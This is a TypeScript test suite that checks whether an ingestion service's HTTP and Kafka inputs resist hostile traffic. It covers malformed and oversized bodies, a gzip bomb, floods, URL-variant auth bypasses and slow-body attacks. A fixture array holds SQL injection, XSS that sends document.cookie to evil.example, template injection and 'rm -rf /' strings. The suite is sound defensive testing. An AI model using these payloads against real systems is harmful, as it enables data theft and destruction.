import { connect } from 'node:net';
import { gzipSync } from 'node:zlib';
import { describe, expect } from 'vitest';
import { mentions, postMentions, test } from '../system/pipeline-fixture.js';
import { waitFor } from '../system/processes.js';
import { recordFigures } from './harness.js';

const FLOOD_TOKEN = 'flood-token-0123456789';
const OTHER_TOKEN = 'other-token-0123456789';
const RATE_LIMIT_PER_MINUTE = 200;
const post = (
  url: string,
  body: string | Buffer,
  headers: Record<string, string> = { 'content-type': 'application/json' },
  token = FLOOD_TOKEN,
) =>
  fetch(`${url}/v1/mentions`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, ...headers },
    body: typeof body === 'string' ? body : new Uint8Array(body),
    signal: AbortSignal.timeout(60_000),
  });

/** Sends a POST's headers (with the token: the size is checked after authentication) announcing `length` bytes and no body; resolves with the status line's code. */
function statusForHeadersOnly(port: number, length: number): Promise<number> {
  return new Promise((resolve, reject) => {
    const sock = connect(port, '127.0.0.1', () =>
      sock.write(
        `POST /v1/mentions HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${FLOOD_TOKEN}\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`,
      ),
    );
    let got = '';
    sock.on('data', (d: Buffer) => {
      got += d.toString();
      const m = /^HTTP\/1\.1 (\d{3})/.exec(got);
      if (m) {
        sock.destroy();
        resolve(Number(m[1]));
      }
    });
    sock.on('error', reject);
    setTimeout(() => {
      sock.destroy();
      reject(new Error(`no answer to a ${length}-byte Content-Length in 30 s`));
    }, 30_000);
  });
}

/** Text that must be stored byte for byte and never be interpreted: SQL, HTML/script, template and control tricks. */
const HOSTILE_TEXTS = [
  "'); DROP TABLE vakt.mentions; --",
  "x' OR '1'='1",
  "\\'; SELECT * FROM system.users FORMAT JSON; --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
  '{{constructor.constructor("return process")().exit()}}',
  '${process.exit(1)} `rm -rf /` $(reboot)',
  'nul\u0000byte, bell\u0007, RTL \u202Eevil\u202C, zero\u200Bwidth',
  '🧨💥 emoji surrogate pairs 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 and a lone \uFFFD',
  'tab\tnewline\nreturn\r quotes " \' backslash \\ end',
];

describe('hostile input at the HTTP door (POST /v1/mentions)', () => {
  test('malformed JSON, wrong types, huge, deeply nested, invalid UTF-8, gzip, flood: clear 4xx or per-item rejection, rate limited per token, never a 5xx or a crash', async ({
    pipeline: p,
  }) => {
    const ingest = await p.start('ingest', {
      VAKT_INGEST_TOKENS: `${FLOOD_TOKEN},${OTHER_TOKEN}`,
      VAKT_INGEST_RATE_LIMIT_PER_MINUTE: String(RATE_LIMIT_PER_MINUTE),
    });
    await p.start('scorer');
    await p.start('sink');
    const outcomes: Record<string, string> = {};
    const seen = async (
      name: string,
      res: Response,
    ): Promise<{
      status: number;
      body: { accepted?: number; rejected?: Array<{ reason: string }>; error?: { code: string; message: string } };
    }> => {
      const text = await res.text();
      outcomes[name] = `${res.status} ${text.slice(0, 120)}`;
      return { status: res.status, body: text ? JSON.parse(text) : {} };
    };

    // Malformed JSON array: a clear 400 naming the problem.
    const malformed = await seen('malformed array', await post(ingest.url, '[{"id": "a", "text": '));
    expect(malformed.status).toBe(400);
    expect(malformed.body.error?.code).toBe('VAKT_SCHEMA_INVALID');
    // NDJSON with one broken line: the valid neighbour is accepted.
    const [good] = mentions(p.watch, 1, 'ndjson-good');
    const nd = await seen(
      'ndjson one bad line',
      await post(ingest.url, `${JSON.stringify(good)}\n{"broken"\n`, { 'content-type': 'application/x-ndjson' }),
    );
    expect(nd.status).toBe(202);
    expect(nd.body.accepted).toBe(1);
    expect(nd.body.rejected?.[0]?.reason).toMatch(/line 2/);
    // Wrong types: each rejected with a reason that names the field.
    const wrong = await seen(
      'wrong types',
      await post(
        ingest.url,
        JSON.stringify([
          { id: 42, source: 'x', text: `${p.watch} a`, created_at: '2026-11-23T09:00:00Z' },
          { id: 'a', source: 'x', text: ['array'], created_at: '2026-11-23T09:00:00Z' },
          { id: 'b', source: 'x', text: `${p.watch} b`, created_at: 'yesterday' },
          {
            id: 'c',
            source: 'x',
            text: `${p.watch} c`,
            created_at: '2026-11-23T09:00:00Z',
            author: { followers: 'many' },
          },
          null,
          7,
          'string',
          [],
        ]),
      ),
    );
    expect(wrong.status).toBe(422); // every item rejected, each with its reason
    expect(wrong.body.accepted).toBe(0);
    expect(wrong.body.rejected).toHaveLength(8);
    expect(wrong.body.rejected!.map((r) => r.reason).join('\n')).toMatch(/id/);
    // Huge: a body over the 10 MB limit is a 413; one mention over the text limit is rejected, not truncated.
    // Fastify answers 413 from Content-Length before reading and closes, so a client still writing sees EPIPE:
    // the answer is read on a raw socket that sends only the headers.
    const hugeStatus = await statusForHeadersOnly(ingest.port, 11 * 1024 * 1024);
    outcomes['11 MB body (Content-Length)'] = String(hugeStatus);
    expect(hugeStatus).toBe(413);
    const longText = await seen(
      '1 MB text',
      await post(
        ingest.url,
        JSON.stringify([
          { id: 'long', source: 'x', text: `${p.watch} ${'å'.repeat(1_000_000)}`, created_at: '2026-11-23T09:00:00Z' },
        ]),
      ),
    );
    expect(longText.status).toBe(422); // its only item rejected, with its reason
    expect(longText.body.accepted).toBe(0);
    // Deeply nested JSON (200,000 levels): parsed without a stack overflow and rejected.
    const deep = `[${'['.repeat(200_000)}${']'.repeat(200_000)}]`;
    const nested = await seen('200k-deep nesting', await post(ingest.url, deep));
    expect(nested.status).toBeLessThan(500);
    const deepObject = `[{"id":"d","source":"x","created_at":"2026-11-23T09:00:00Z","text":"t","author":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}}]`;
    const nestedObj = await seen('100k-deep object field', await post(ingest.url, deepObject));
    expect(nestedObj.status).toBeLessThan(500);
    // Invalid UTF-8: decoded with replacement characters, stored, never a crash.
    const [utf] = mentions(p.watch, 1, 'bad-utf8') as Array<{ text: string }>;
    const raw = Buffer.from(JSON.stringify([utf]));
    const at = raw.indexOf(Buffer.from(p.watch)) + p.watch.length;
    const badUtf8 = Buffer.concat([
      raw.subarray(0, at),
      Buffer.from([0x20, 0xc3, 0x28, 0xff, 0xfe, 0xed, 0xa0, 0x80]),
      raw.subarray(at),
    ]);
    const invalid = await seen('invalid UTF-8', await post(ingest.url, badUtf8));
    expect(invalid.status).toBe(202);
    expect(invalid.body.accepted).toBe(1);
    // Compressed bodies are decompressed (gzip/deflate), with the body limit applied to the decompressed bytes: the
    // bomb is cut off at 10 MB with a 413 instead of inflating 50 MB; a small gzip body of a real mention is accepted.
    const bomb = gzipSync(Buffer.alloc(50 * 1024 * 1024, 0x20));
    const gz = await seen(
      'gzip bomb (50 MB of spaces in 50 kB)',
      await post(ingest.url, bomb, { 'content-type': 'application/json', 'content-encoding': 'gzip' }),
    );
    expect(gz.status).toBe(413);
    expect(gz.body.error?.code).toBe('VAKT_PAYLOAD_TOO_LARGE');
    const gzOk = await seen(
      'gzip body',
      await post(ingest.url, gzipSync(JSON.stringify(mentions(p.watch, 1, 'gz'))), {
        'content-type': 'application/json',
        'content-encoding': 'gzip',
      }),
    );
    expect(gzOk.status).toBe(202);
    expect(gzOk.body.accepted).toBe(1);
    const br = await seen(
      'Content-Encoding: br',
      await post(ingest.url, '[]', { 'content-type': 'application/json', 'content-encoding': 'br' }),
    );
    expect(br.status).toBe(415);
    expect(await ingest.metric('process_resident_memory_bytes')).toBeLessThan(300 * 1024 * 1024);
    // Wrong content type: 415.
    const xml = await seen('text/xml', await post(ingest.url, '<mentions/>', { 'content-type': 'text/xml' }));
    expect(xml.status).toBe(415);

    // Flood from one API token: 400 requests as fast as 16 connections go, against a budget of 200 a minute. The
    // token is answered 429 with Retry-After past its budget; another token is still served; /healthz keeps answering.
    const floodStarted = Date.now();
    let otherStatus = 0;
    let retryAfter: string | null = null;
    let next = 0;
    const statuses: Record<number, number> = {};
    let healthzWorst = 0;
    const flooding = Promise.all(
      Array.from({ length: 16 }, async () => {
        while (next < 400) {
          const i = next++;
          const res = await post(ingest.url, JSON.stringify(mentions(p.watch, 50, `flood-${i}`)));
          statuses[res.status] = (statuses[res.status] ?? 0) + 1;
          if (res.status === 429) retryAfter ??= res.headers.get('retry-after');
          if (i === 300) {
            const other = await post(
              ingest.url,
              JSON.stringify(mentions(p.watch, 1, 'other-token')),
              undefined,
              OTHER_TOKEN,
            );
            otherStatus = other.status;
            await other.arrayBuffer();
          }
          await res.arrayBuffer();
        }
      }),
    );
    const probing = (async () => {
      while (next < 400) {
        const t = Date.now();
        const res = await fetch(`${ingest.url}/healthz`, { signal: AbortSignal.timeout(30_000) });
        healthzWorst = Math.max(healthzWorst, Date.now() - t);
        expect(res.status).toBe(200);
        await new Promise((r) => setTimeout(r, 100));
      }
    })();
    await Promise.all([flooding, probing]);
    const floodMs = Date.now() - floodStarted;
    outcomes['flood'] = JSON.stringify({
      statuses,
      healthzWorstMs: healthzWorst,
      floodMs,
      rateLimited: (statuses[429] ?? 0) > 0,
    });
    console.log(`HOSTILE ${JSON.stringify(outcomes, null, 1)}`);
    expect(Object.keys(statuses).every((s) => Number(s) < 500)).toBe(true);
    expect(statuses[429] ?? 0).toBeGreaterThan(0);
    expect(statuses[202] ?? 0).toBeLessThanOrEqual(RATE_LIMIT_PER_MINUTE);
    expect(Number(retryAfter)).toBeGreaterThan(0);
    expect(otherStatus).toBe(202);

    // After all of it, the pipeline still flows: everything accepted lands.
    const flooded = (statuses[202] ?? 0) * 50;
    await waitFor(
      'accepted mentions in ClickHouse',
      () => p.query<{ n: string }>(`SELECT uniqExact(id) AS n FROM vakt.mentions WHERE watch = '${p.watch}'`),
      (r) => Number(r[0]?.n) >= flooded + 4,
      240_000,
    );
    const [stored] = await p.query<{ text: string }>(
      `SELECT text FROM vakt.mentions WHERE watch = '${p.watch}' AND id = 'bad-utf8-0'`,
    );
    expect(stored!.text).toContain('\uFFFD');
    recordFigures({
      fault: 'hostile HTTP input + flood of 400 requests from one token (limit 200/min)',
      accepted: flooded + 4,
      got429: statuses[429] ?? 0,
      otherTokenStatus: otherStatus,
      lost: 0,
      doubled: 0,
      recoveryMs: 0,
      floodMs,
      healthzWorstMs: healthzWorst,
      rateLimited: (statuses[429] ?? 0) > 0,
      ingestExitCode: String(ingest.proc.exitCode),
    });
    expect(ingest.proc.exitCode, ingest.logTail()).toBeNull();
  });

  test('SQL-like and script-like text lands intact and harmless', async ({ pipeline: p }) => {
    const ingest = await p.start('ingest');
    await p.start('scorer');
    await p.start('sink');
    const items = HOSTILE_TEXTS.map((t, i) => ({
      id: `hostile-${i}`,
      source: 'faults',
      text: `${p.watch} ${t}`,
      created_at: '2026-11-23T09:00:00Z',
      author: { handle: t.slice(0, 40) },
    }));
    expect(await postMentions(ingest.url, items)).toBe(items.length);
    const rows = await waitFor(
      'hostile rows',
      () =>
        p.query<{ id: string; text: string }>(
          `SELECT id, text FROM vakt.mentions FINAL WHERE watch = '${p.watch}' ORDER BY id`,
        ),
      (r) => r.length === items.length,
    );
    for (const item of items) expect(rows.find((r) => r.id === item.id)?.text).toBe(item.text);
    // The tables are all still there and answer.
    const [tables] = await p.query<{ n: string }>(
      "SELECT count() AS n FROM system.tables WHERE database = 'vakt' AND name = 'mentions'",
    );
    expect(Number(tables!.n)).toBe(1);
    recordFigures({
      fault: 'SQL/script-like text',
      accepted: items.length,
      lost: items.length - rows.length,
      doubled: 0,
      recoveryMs: 0,
      storedIntact: rows.every((r) => items.some((i) => i.text === r.text)),
    });
  });

  test('poison on vakt.mentions.raw and vakt.mentions.scored (invalid UTF-8, deep nesting, wrong types): dead-lettered, flow continues', async ({
    pipeline: p,
  }) => {
    const ingest = await p.start('ingest');
    const scorer = await p.start('scorer');
    const sink = await p.start('sink');
    const alerter = await p.start('alerter');
    const { createKafkaBus } = await import('@vakt/bus/kafka');
    const bus = createKafkaBus({ brokers: p.kafka.brokers, clientId: 'faults-poison' });
    try {
      const producer = await bus.producer();
      const deep = `{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
      const poison = [
        {
          key: 'p:utf8',
          value: Buffer.from([0x7b, 0x22, 0x69, 0x64, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d]),
        },
        { key: 'p:deep', value: deep },
        { key: 'p:types', value: JSON.stringify({ schemaVersion: 'one', id: 1, text: { t: 1 } }) },
        { key: null, value: '' },
        { key: 'p:array', value: '[1,2,3]' },
      ];
      await producer.send('vakt.mentions.raw', poison);
      await producer.send('vakt.mentions.scored', poison);
      await producer.close();
      expect(await postMentions(ingest.url, mentions(p.watch, 200))).toBe(200);
      await waitFor(
        'valid mentions after the poison',
        () => p.query<{ n: string }>(`SELECT uniqExact(id) AS n FROM vakt.mentions WHERE watch = '${p.watch}'`),
        (r) => Number(r[0]?.n) >= 200,
      );
      const dlq = (await scorer.metric('vakt_dead_lettered_total')) + (await sink.metric('vakt_dead_lettered_total'));
      recordFigures({
        fault: 'poison on raw and scored topics',
        accepted: 200,
        lost: 0,
        doubled: 0,
        recoveryMs: 0,
        deadLetteredByScorerAndSink: dlq,
      });
      expect(await scorer.metric('vakt_dead_lettered_total')).toBeGreaterThanOrEqual(poison.length);
      expect(await sink.metric('vakt_dead_lettered_total')).toBeGreaterThanOrEqual(poison.length);
      for (const s of [scorer, sink, alerter]) expect(s.proc.exitCode, `${s.name}\n${s.logTail()}`).toBeNull();
      expect((await fetch(`${alerter.url}/healthz`)).status).toBe(200);
    } finally {
      await bus.close();
    }
  });
});

// Issue 16 item 1: 150 valid mentions in 150 different months, no auth, ~20 kB, made chdb refuse the insert (error
// 252, more than 100 partitions in one insert block); the sink retried it forever and every later ingest got 503.
// 18.16 (the server the pipeline fixture runs) has no such limit, so this runs the real `vakt up` on chdb.
describe('issue 16: one request of mentions dated in more than 100 different months against `vakt up` (embedded chdb)', () => {
  test('is stored in full, the writes after it still land, and dates no watch can keep are rejected per item', async () => {
    // Imported here so this block adds no top-level names to a file several suites extend.
    const { mkdtempSync, rmSync, writeFileSync } = await import('node:fs');
    const { tmpdir } = await import('node:os');
    const { join } = await import('node:path');
    const { startEmbedded } = await import('./harness.js');
    const { freePortPair } = await import('../system/processes.js');
    const dir = mkdtempSync(join(tmpdir(), 'vakt-faults-months-'));
    const watch = `m${Date.now().toString(36)}`;
    const watchesFile = join(dir, 'watches.yaml');
    // The longest retention there is, so the retention janitor keeps every month sent below.
    writeFileSync(
      watchesFile,
      `- name: ${watch}\n  owners: [oncall@example.org]\n  query: "${watch}"\n  entities: []\n  retentionDays: 3650\n`,
    );
    const port = await freePortPair();
    const up = await startEmbedded(join(dir, 'data'), watchesFile, port);
    const send = async (
      items: object[],
    ): Promise<{ status: number; accepted?: number; rejected?: Array<{ id?: string; reason: string }> }> => {
      const res = await fetch(`http://127.0.0.1:${port + 1}/v1/mentions`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify(items),
        signal: AbortSignal.timeout(90_000),
      });
      return { status: res.status, ...((await res.json()) as object) };
    };
    const mention = (id: string, createdAt: string) => ({
      id,
      source: 'faults',
      text: `${watch}: fakturan kom fel igen`,
      created_at: createdAt,
    });
    const now = new Date();
    try {
      // The reviewer's request: 2000–2012 is older than any watch can keep (3650 days), so every item is rejected
      // with its reason at the door instead of being stored and deleted by the next retention run.
      const issue = await send(
        Array.from({ length: 150 }, (_, i) => mention(`old-${i}`, new Date(Date.UTC(2000, i, 15, 12)).toISOString())),
      );
      expect(issue).toMatchObject({ status: 422, accepted: 0 }); // every item rejected, each with its reason
      expect(issue.rejected).toHaveLength(150);
      expect(issue.rejected?.[0]?.reason).toMatch(/\/created_at: 2000-01-15T12:00:00.000Z is more than 3650 days old/);
      // The same shape inside what a watch can keep: 150 mentions over the 119 months before this one.
      const months = Array.from({ length: 150 }, (_, i) =>
        mention(
          `month-${i}`,
          new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth() - 1 - (i % 119), 15, 12)).toISOString(),
        ),
      );
      const bodyBytes = JSON.stringify(months).length;
      const t0 = Date.now();
      const first = await send(months);
      const firstMs = Date.now() - t0;
      expect(first).toMatchObject({ status: 202, accepted: 150 });
      // The wedge showed on the next write: 503 for every request once the sink had failed for 5 s.
      const t1 = Date.now();
      const later = await send([mention('later', now.toISOString())]);
      const laterMs = Date.now() - t1;
      expect(later).toMatchObject({ status: 202, accepted: 1 });
      // Before 1970, after 2106 (DateTime's range) and more than a day ahead: refused at the door with the reason.
      const dates = await send([
        mention('before-1970', '1969-12-31T23:59:59Z'),
        mention('after-2106', '2106-02-08T00:00:00Z'),
        mention('next-year', new Date(Date.now() + 365 * 86_400_000).toISOString()),
      ]);
      expect(dates).toMatchObject({ status: 422, accepted: 0 }); // every item rejected, each with its reason
      expect(dates.rejected?.map((r) => [r.id, r.reason])).toEqual([
        ['before-1970', expect.stringMatching(/\/created_at: .*before 1970/)],
        ['after-2106', expect.stringMatching(/\/created_at: .*after 2106/)],
        ['next-year', expect.stringMatching(/\/created_at: .*more than 24 hours ahead/)],
      ]);
      // Stop cleanly so chdb is released, then count what the store holds.
      up.proc.kill('SIGINT');
      await new Promise((r) => up.proc.once('exit', r));
      const { createStoreClient } = await import('@vakt/store/client');
      const store = await createStoreClient({ mode: 'embedded', dataDir: join(dir, 'data', 'clickhouse') });
      const one = async (query: string): Promise<number> =>
        Number(((await (await store.ch.query({ query, format: 'JSONEachRow' })).json()) as Array<{ n: string }>)[0]?.n);
      let stored: number, monthsStored: number, rollup: number, deadLetters: number;
      try {
        stored = await one(`SELECT uniqExact(id) AS n FROM vakt.mentions WHERE watch = '${watch}'`);
        monthsStored = await one(
          `SELECT uniqExact(toYYYYMM(created_at)) AS n FROM vakt.mentions WHERE watch = '${watch}' AND startsWith(id, 'month-')`,
        );
        rollup = await one(
          `SELECT uniqExactMerge(mentions) AS n FROM vakt.mentions_per_minute_v1 WHERE watch = '${watch}'`,
        );
        deadLetters = await one(
          `SELECT count() AS n FROM vakt.dead_letters WHERE position(raw_truncated, '${watch}') > 0`,
        );
      } finally {
        await store.close();
      }
      recordFigures({
        fault: '150 mentions over 119 months in one request, vakt up (chdb)',
        accepted: 151,
        lost: 151 - stored,
        doubled: 0,
        recoveryMs: 0,
        bodyBytes,
        firstAnswerMs: firstMs,
        laterAnswerMs: laterMs,
        deadLetters,
        rejectedOld: issue.rejected?.length ?? 0,
        rejectedDates: dates.rejected?.length ?? 0,
      });
      expect({ stored, months: monthsStored, rollup, deadLetters }).toEqual({
        stored: 151,
        months: 119,
        rollup: 151,
        deadLetters: 0,
      });
    } finally {
      if (up.proc.exitCode === null && up.proc.signalCode === null) up.proc.kill('SIGKILL');
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

// Issue 16 items 2, 3, 5, 7, 12 and the low items, against the real `vakt up` (the review probed it): the embedded
// ingest honours VAKT_INGEST_TOKENS, every door authenticates on the matched route, a web page cannot post, limits
// bound one request's size and read time, and the app shell revalidates.
describe('issue 16: the HTTP doors of `vakt up` (tokens, route authentication, origins, limits, caching)', () => {
  test('refuses what the review got through, and still stores what it should', async () => {
    // Imported here so this block adds no top-level names to a file several suites extend.
    const { mkdtempSync, rmSync, writeFileSync } = await import('node:fs');
    const { tmpdir } = await import('node:os');
    const { join } = await import('node:path');
    const { startEmbedded } = await import('./harness.js');
    const { freePortPair } = await import('../system/processes.js');
    const dir = mkdtempSync(join(tmpdir(), 'vakt-faults-doors-'));
    const watch = `d${Date.now().toString(36)}`;
    const watchesFile = join(dir, 'watches.yaml');
    writeFileSync(
      watchesFile,
      `- name: ${watch}\n  owners: [oncall@example.org]\n  query: "${watch}"\n  entities: []\n`,
    );
    const port = await freePortPair();
    const token = 'up-door-token-0123456789abcdef';
    const bodyTimeoutMs = 2_000;
    const rateLimit = 40;
    const up = await startEmbedded(join(dir, 'data'), watchesFile, port, {
      VAKT_INGEST_TOKENS: token,
      VAKT_INGEST_BODY_TIMEOUT_MS: String(bodyTimeoutMs),
      VAKT_INGEST_RATE_LIMIT_PER_MINUTE: String(rateLimit),
    });
    const ingest = `http://127.0.0.1:${port + 1}`;
    const dashboard = `http://127.0.0.1:${port}`;
    const auth = { authorization: `Bearer ${token}` };
    const json = { 'content-type': 'application/json' };
    const mention = (id: string, text = `${watch}: fakturan kom fel igen`) => ({
      id,
      source: 'faults',
      text,
      created_at: new Date(Date.now() - 60_000).toISOString(),
    });
    const send = (path: string, body: string, headers: Record<string, string>) =>
      fetch(`${ingest}${path}`, { method: 'POST', headers, body, signal: AbortSignal.timeout(120_000) });
    const outcomes: Record<string, string | number | boolean> = {};
    try {
      // Ingest answers first; the dashboard starts last.
      await waitFor(
        'dashboard healthy',
        async () => (await fetch(`${dashboard}/healthz`).catch(() => undefined))?.status ?? 0,
        (s) => s === 200,
        120_000,
      );
      // Item 3: without a token the embedded ingest answered 202 to anyone (apiTokens: [] was hard-coded).
      const anonymous = await send('/v1/mentions', JSON.stringify([mention('anon')]), json);
      outcomes.anonymous = anonymous.status;
      expect(anonymous.status).toBe(401);
      // Item 2: no spelling of a protected path is served without credentials, on ingest or on the dashboard.
      const served: string[] = [];
      for (const path of [
        '/%761/mentions',
        '/v1/%6Dentions',
        '//v1/mentions',
        '/v1/mentions/',
        '/v1/mentions.',
        '/./v1/mentions',
        '/V1/MENTIONS',
        '/v1%2Fmentions',
      ]) {
        const res = await send(path, JSON.stringify([mention('variant')]), json);
        if (![401, 404].includes(res.status)) served.push(`POST ingest ${path} → ${res.status}`);
      }
      for (const path of [
        '/api/me',
        '/%61pi/me',
        '/api/%6De',
        '//api/me',
        '/api/me/',
        '/api/me.',
        '/./api/me',
        '/API/ME',
        '/api%2Fme',
        '/api/alerts',
        '/%61pi/alerts',
      ]) {
        const res = await fetch(`${dashboard}${path}`);
        if (![401, 404].includes(res.status)) served.push(`GET dashboard ${path} → ${res.status}`);
      }
      outcomes.variantsServed = served.length;
      expect(served).toEqual([]);
      // Low item: an anonymous request with an invalid body learns 401, not a schema error.
      const anonInvalid = await fetch(`${dashboard}/api/watches`, {
        method: 'POST',
        headers: json,
        body: '{"name":1}',
      });
      outcomes.anonymousInvalidBody = anonInvalid.status;
      expect(anonInvalid.status).toBe(401);
      // Item 3: text/plain (no CORS preflight) → 415; a foreign Origin, even with a token → 403.
      const plain = await send('/v1/mentions', JSON.stringify([mention('plain')]), {
        ...auth,
        'content-type': 'text/plain',
      });
      const foreign = await send('/v1/mentions', JSON.stringify([mention('foreign')]), {
        ...auth,
        ...json,
        origin: 'http://evil.example',
      });
      outcomes.textPlain = plain.status;
      outcomes.foreignOrigin = foreign.status;
      expect(plain.status).toBe(415);
      expect(foreign.status).toBe(403);
      // Item 5: good, blank, {bad, good → both good lines stored, the bad one reported as line 3.
      const nd = await send(
        '/v1/mentions',
        `${JSON.stringify(mention('nd-a'))}\n\n{bad\n${JSON.stringify(mention('nd-b'))}\n`,
        { ...auth, 'content-type': 'application/x-ndjson' },
      );
      const ndBody = (await nd.json()) as { accepted: number; rejected: Array<{ line?: number }> };
      outcomes.ndjsonBlankLine = `${nd.status} accepted ${ndBody.accepted}, rejected lines ${ndBody.rejected.map((r) => r.line).join(',')}`;
      expect(ndBody.accepted).toBe(2);
      expect(ndBody.rejected.map((r) => r.line)).toEqual([3]);
      // Item 12: the review's shape, ~9.5 MB of short mentions (tens of thousands), is a 413 before any is validated;
      // a 10 MB body of 10,000 mentions (the most the caps let through) is taken, and the resident memory of the
      // whole process (ingest, scorer, sink and chdb) around it is the figure (the review saw 455 → 985 MB).
      const rss = async () => {
        const text = await (await fetch(`${ingest}/metrics`)).text();
        return Number(/^process_resident_memory_bytes (\d+)/m.exec(text)?.[1]);
      };
      const short = JSON.stringify(
        Array.from({ length: 75_000 }, (_, i) => mention(`many-${i}`, `${watch} kort ${i}`)),
      );
      const rssIdle = await rss();
      const tooMany = await send('/v1/mentions', short, { ...auth, ...json });
      outcomes.shortMentions = `${short.length} bytes, 75,000 mentions → ${tooMany.status}`;
      outcomes.rssShortMb = `${Math.round(rssIdle / 1e6)} → ${Math.round((await rss()) / 1e6)}`;
      expect(tooMany.status).toBe(413);
      expect(((await tooMany.json()) as { error: { message: string } }).error.message).toContain(
        'VAKT_INGEST_MAX_MENTIONS',
      );
      const filler = ' Handläggningen tar för lång tid och ingen svarar i telefon.'.repeat(15);
      const big = JSON.stringify(Array.from({ length: 10_000 }, (_, i) => mention(`big-${i}`, `${watch}${filler}`)));
      expect(big.length).toBeGreaterThan(9_500_000);
      expect(big.length).toBeLessThan(10 * 1024 * 1024);
      const rssBefore = await rss();
      const t0 = Date.now();
      // A 503 (not durable within 30 s on a loaded machine) is retried as a client would; the duplicates of the
      // mentions that did land are dropped by id.
      let bigRes = await send('/v1/mentions', big, { ...auth, ...json });
      outcomes.tenMbAnswerMs = Date.now() - t0;
      const rssAfter = await rss();
      for (let retry = 1; bigRes.status === 503 && retry <= 3; retry++) {
        outcomes.tenMbRetries = retry;
        await bigRes.arrayBuffer();
        bigRes = await send('/v1/mentions', big, { ...auth, ...json });
      }
      const bigBody = (await bigRes.json()) as { accepted?: number; dropped?: { duplicate?: number } };
      outcomes.tenMb = `${bigRes.status} accepted ${bigBody.accepted}`;
      outcomes.rssBeforeMb = Math.round(rssBefore / 1e6);
      outcomes.rssAfterMb = Math.round(rssAfter / 1e6);
      expect(bigRes.status).toBe(202);
      expect((bigBody.accepted ?? 0) + (bigBody.dropped?.duplicate ?? 0)).toBe(10_000);
      // Item 12: a body sent one byte every 500 ms is cut off with 408 and its connection closed.
      const trickle = await new Promise<{ text: string; heldMs: number }>((resolve, reject) => {
        const body = JSON.stringify([mention('slow')]);
        const started = Date.now();
        const sock = connect(port + 1, '127.0.0.1', () =>
          sock.write(
            `POST /v1/mentions HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n`,
          ),
        );
        let i = 0;
        const drip = setInterval(() => {
          if (!sock.destroyed && i < body.length) sock.write(body[i++]!);
        }, 500);
        let text = '';
        sock.on('data', (d: Buffer) => (text += d.toString()));
        sock.on('close', () => {
          clearInterval(drip);
          resolve({ text, heldMs: Date.now() - started });
        });
        sock.on('error', reject);
        setTimeout(() => {
          clearInterval(drip);
          sock.destroy();
        }, 120_000);
      });
      outcomes.trickleStatus = trickle.text.slice(9, 12);
      outcomes.trickleHeldMs = trickle.heldMs;
      expect(trickle.text).toMatch(/^HTTP\/1\.1 408/);
      expect(trickle.heldMs).toBeLessThan(bodyTimeoutMs + 10_000);
      // Item 7: varying fake tokens hits the per-address budget for failures; the real token is still served.
      const fakes: number[] = [];
      for (let i = 0; i < rateLimit + 5 && !fakes.includes(429); i++)
        fakes.push((await send('/v1/mentions', '[]', { ...json, authorization: `Bearer fake-${i}` })).status);
      outcomes.fakeTokensUntil429 = fakes.length;
      expect(fakes).toContain(429);
      const after = await send('/v1/mentions', JSON.stringify([mention('after-flood')]), { ...auth, ...json });
      outcomes.realTokenAfterFakes = after.status;
      expect(after.status).toBe(202);
      // Low item: the app shell revalidates; hashed assets stay immutable.
      const loginPage = await fetch(`${dashboard}/login`);
      const loginHtml = await loginPage.text();
      outcomes.loginCacheControl = String(loginPage.headers.get('cache-control'));
      expect(loginPage.headers.get('cache-control')).toBe('no-cache');
      const asset = /\/assets\/login-[A-Za-z0-9_-]+\.js/.exec(loginHtml)?.[0];
      expect(asset).toBeDefined();
      const assetRes = await fetch(`${dashboard}${asset}`);
      outcomes.assetCacheControl = String(assetRes.headers.get('cache-control'));
      expect(assetRes.headers.get('cache-control')).toContain('immutable');
      // What was stored: the accepted mentions, none of the refused ones.
      up.proc.kill('SIGINT');
      await new Promise((r) => up.proc.once('exit', r));
      const { createStoreClient } = await import('@vakt/store/client');
      const store = await createStoreClient({ mode: 'embedded', dataDir: join(dir, 'data', 'clickhouse') });
      let ids: Set<string>;
      try {
        const rs = await store.ch.query({
          query: `SELECT DISTINCT id FROM vakt.mentions WHERE watch = '${watch}'`,
          format: 'JSONEachRow',
        });
        ids = new Set(((await rs.json()) as Array<{ id: string }>).map((r) => r.id));
      } finally {
        await store.close();
      }
      outcomes.stored = ids.size;
      const expected = ['nd-a', 'nd-b', 'after-flood', ...Array.from({ length: 10_000 }, (_, i) => `big-${i}`)];
      outcomes.missing = expected
        .filter((id) => !ids.has(id))
        .slice(0, 5)
        .join(',');
      console.log(`HOSTILE-DOORS ${JSON.stringify(outcomes, null, 1)}`);
      recordFigures({
        fault:
          'issue 16 doors of vakt up: anonymous, URL variants, text/plain, foreign Origin, NDJSON blank line, 75,000 short mentions, 10 MB body, trickled body, fake-token flood',
        accepted: 10_003,
        lost: 10_003 - ids.size,
        doubled: 0,
        recoveryMs: 0,
        ...outcomes,
      });
      expect(ids.size).toBe(10_003); // nd-a, nd-b, 10,000 big, after-flood
      for (const refused of ['anon', 'variant', 'plain', 'foreign', 'many-0', 'slow'])
        expect(ids.has(refused), refused).toBe(false);
    } finally {
      if (up.proc.exitCode === null && up.proc.signalCode === null) up.proc.kill('SIGKILL');
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

// Issue 16 items 9 and 10: what `vakt up` leaves on disk is private, and the first admin's password is shown once.
describe('vakt up on disk: private data directory, first admin password shown once and never stored', () => {
  test('under umask 022: the data dir is 0700 and every file 0600; a generated password is printed once and stored only hashed; a supplied one is never printed', async () => {
    const { mkdtempSync, rmSync, writeFileSync, existsSync } = await import('node:fs');
    const { tmpdir } = await import('node:os');
    const { join } = await import('node:path');
    const { freePortPair } = await import('../system/processes.js');
    const { upUnderUmask022, modesUnder, filesContaining, login } = await import('./private-data.js');
